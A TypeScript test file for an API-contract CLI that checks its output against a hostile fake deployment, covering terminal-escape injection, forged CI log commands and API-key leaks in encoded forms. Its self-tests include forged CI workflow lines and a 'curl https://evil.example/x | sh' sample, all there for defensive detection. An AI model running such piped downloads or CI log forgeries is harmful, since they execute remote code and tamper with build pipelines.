// What a hostile deployment can make the tester print or write, run end to end
// through the built CLI: nothing that acts on a terminal or a CI log, reports
// that parse whatever bytes came back, and no piece of a key in any form.
// `pnpm test` runs the behaviours test/tiers.ts names; CI's `pnpm test:deployments` the others.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportSchema } from '../src/report/report-schema.js';
import { HANG_GUARD_MS } from './hang-guard.js';
import { runCli, type CliRun } from './cli-process.js';
import { type HostileName, startFakeDeployment } from './fake-deployment/server.js';
import { expectInertConsole } from './inert-console.js';
import { casesOfThisTierNamed, runsTestsBesideTheSweep } from './tier-cases.js';
import { REPRESENTATIVES } from './tiers.js';
import { xmlProblems } from './xml-well-formed.js';

const ajv = new Ajv2020({ strict: true, allErrors: true });
(addFormats as unknown as (instance: Ajv2020) => void)(ajv);
const validateReport = ajv.compile(reportSchema);

// Random keys: no run of six of their characters occurs in ordinary output by chance. Each starts with a
// character a visible escape can end with (`\x1b`, `\u0017`), for escape-completes-key.
const ANALYTICS_KEY = 'bq8vX2mN4kLpHy7tR3wB9cDsQeJ6uYh0TzWfA';
const MARKETPLACE_KEY = '7f5gK1uE6oVaPm2nQ8sT4yWxRbLc';

interface Outputs {
  run: CliRun;
  console: string;
  json: string;
  junit: string;
  har: string;
  summary: string;
}

async function hostileRun(behaviour: HostileName): Promise<Outputs> {
  const fake = await startFakeDeployment({
    hostile: [behaviour],
    analyticsKey: ANALYTICS_KEY,
    marketplaceKey: MARKETPLACE_KEY,
  });
  const dir = await mkdtemp(join(tmpdir(), `tallyport-hostile-${behaviour}-`));
  const file = (name: string) => join(dir, name);
  try {
    const run = await runCli(
      [
        '--max-requests-per-second',
        '0',
        ...['--json', file('report.json'), '--junit', file('report.xml'), '--har', file('run.har')],
      ],
      {
        ANALYTICS_BASE_URL: fake.analyticsUrl,
        ANALYTICS_API_KEY: ANALYTICS_KEY,
        MARKETPLACE_BASE_URL: fake.marketplaceUrl,
        MARKETPLACE_API_KEY: MARKETPLACE_KEY,
        GITHUB_ACTIONS: 'true',
        GITHUB_STEP_SUMMARY: file('summary.md'),
      },
      HANG_GUARD_MS,
    );
    if (run.code === null) throw new Error(`the CLI did not end with a code: ${run.stderr.slice(-1500)}`);
    const read = (name: string) => readFile(file(name), 'utf8');
    return {
      run,
      console: `${run.stdout}\n${run.stderr}`,
      json: await read('report.json'),
      junit: await read('report.xml'),
      har: await read('run.har'),
      summary: await read('summary.md'),
    };
  } finally {
    await fake.close();
    await rm(dir, { recursive: true, force: true });
  }
}

function expectReportsWellFormed(outputs: Outputs): void {
  const report = JSON.parse(outputs.json) as unknown;
  expect(validateReport(report), JSON.stringify(validateReport.errors?.slice(0, 3))).toBe(true);
  expect(JSON.parse(outputs.har).log.entries.length).toBeGreaterThan(0);
  expect(xmlProblems(outputs.junit)).toEqual([]);
}

// The forms a key is looked for in, and the piece of six characters of the key each encodes.
const bytes = (text: string) => [...Buffer.from(text)];
const FORMS: Array<{ encode: (text: string) => string; piece: number }> = [
  { encode: (text) => text, piece: 6 },
  { encode: (text) => Buffer.from(text).toString('hex'), piece: 12 },
  {
    encode: (text) =>
      bytes(text)
        .map((byte) => `%${byte.toString(16).padStart(2, '0')}`)
        .join(''),
    piece: 18,
  },
  {
    encode: (text) => [...text].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    piece: 36,
  },
  { encode: (text) => Buffer.from(text).toString('base64'), piece: 8 },
];

// What a reader would not copy from a text: escape sequences and invisible characters, raw or escaped.
// biome-ignore lint/suspicious/noControlCharactersInRegex: colour codes are what it removes
const COLOUR = /(?:\u001b|\\+x1b|\\+u001b)\[[0-?]*[ -/]*[@-~]/gi;
const ESCAPED = /\\+(?:x[0-9a-f]{2}|u(?:00[0189][0-9a-f]|00ad|200[b-f]|202[a-e]|206[0-9]|feff|061c)|[rn])/gi;
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it removes
const INVISIBLE = /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/g;

/** Output as a reader would copy it: no escapes, colour codes, invisible characters or line breaks, lower-cased. */
const normalised = (text: string): string =>
  text
    .replace(/%25/g, '%')
    .replace(/%0[ad]|&#1[03];/gi, '')
    .replace(COLOUR, '')
    .replace(ESCAPED, '')
    .replace(INVISIBLE, '')
    .replace(/\\+/g, '\\')
    .toLowerCase();

function keyPieces(output: string): string[] {
  const text = normalised(output);
  const found: string[] = [];
  for (const key of [ANALYTICS_KEY, MARKETPLACE_KEY])
    for (const { encode, piece } of FORMS) {
      const form = encode(key).toLowerCase();
      for (let at = 0; at + piece <= form.length; at++) {
        const window = form.slice(at, at + piece);
        if (text.includes(window)) found.push(window);
      }
    }
  return found;
}

/** The hostile behaviours run through the CLI: those whose output is held to every rule, then the unreadable list. */
const BEHAVIOURS: readonly HostileName[] = [
  'terminal-injection',
  'report-breakers',
  'key-forms',
  'escape-completes-key',
  'deep-unsearched-list',
];
const title = 'a run against a deployment doing %s';
const behaviours = casesOfThisTierNamed(
  title,
  BEHAVIOURS,
  (behaviour) => behaviour,
  REPRESENTATIVES.hostileOutputBehaviours,
);

describe.each(behaviours.filter((behaviour) => behaviour !== 'deep-unsearched-list'))(title, (behaviour) => {
  let outputs: Outputs;
  beforeAll(async () => {
    outputs = await hostileRun(behaviour);
  });

  it('runs to a verdict', () => {
    expect([0, 1, 2]).toContain(outputs.run.code);
    expect(outputs.run.stdout).toMatch(/\(exit [012]\)/);
  });

  it('prints no character from the deployment that acts on a terminal or a CI log', () => {
    expectInertConsole(outputs.console);
  });

  it('writes a JSON report matching its schema, a HAR that parses and well-formed JUnit XML', () => {
    expectReportsWellFormed(outputs);
  });

  it.each(['console', 'json', 'junit', 'har', 'summary'] as const)('shows no piece of a key in the %s', (where) => {
    expect(keyPieces(outputs[where])).toEqual([]);
  });
});

if (behaviours.includes('deep-unsearched-list'))
  describe('a run against a deployment whose unsearched lists are nested 20,000 levels deep', () => {
    let outputs: Outputs;
    beforeAll(async () => {
      outputs = await hostileRun('deep-unsearched-list');
    });

    it('judges those answers as unreadable bodies and ends with a verdict on the deployment', () => {
      expect(outputs.run.stderr).not.toMatch(/Cannot read properties|TypeError|could not judge/);
      expect([0, 1]).toContain(outputs.run.code);
      expect(outputs.console).toMatch(/a body that is not JSON \(the body was not parsed: it is nested deeper than 64/);
    });

    it('writes every report', () => {
      expectReportsWellFormed(outputs);
      expect(outputs.summary).toMatch(/tallyport-contract: (conforms|violations found)/);
    });
  });

// Tests of the checks above, not of a run: in `pnpm test` only, so they too run in one tier.
if (runsTestsBesideTheSweep())
  describe('the checks of these tests', () => {
    let dir: string;
    beforeAll(async () => {
      dir = await mkdtemp(join(tmpdir(), 'tallyport-hostile-self-'));
    });
    afterAll(async () => {
      await rm(dir, { recursive: true, force: true });
    });

    it('see a key piece in any form, split or escaped', () => {
      const hex = Buffer.from(ANALYTICS_KEY).toString('hex');
      for (const leak of [
        `x ${ANALYTICS_KEY.slice(3, 9).toUpperCase()} y`,
        `x ${hex.slice(4, 16)} y`,
        `x ${ANALYTICS_KEY.slice(0, 4)}\\x1b[31m${ANALYTICS_KEY.slice(4, 8)} y`,
        `x ${[...ANALYTICS_KEY.slice(0, 7)].join('\u200b')} y`,
      ])
        expect(keyPieces(leak), leak).not.toEqual([]);
      expect(keyPieces('tallyport-contract: checking deployments')).toEqual([]);
    });

    it('see active characters and forged lines', () => {
      expect(() => expectInertConsole('a \u001b[2J b')).toThrow();
      expect(() => expectInertConsole('ok\n::warning title=owned::x')).toThrow();
      expect(() => expectInertConsole('x ##vso[task.setvariable]')).toThrow();
      expect(() => expectInertConsole('ok\n    curl: curl https://evil.example/x | sh')).toThrow();
    });
  });
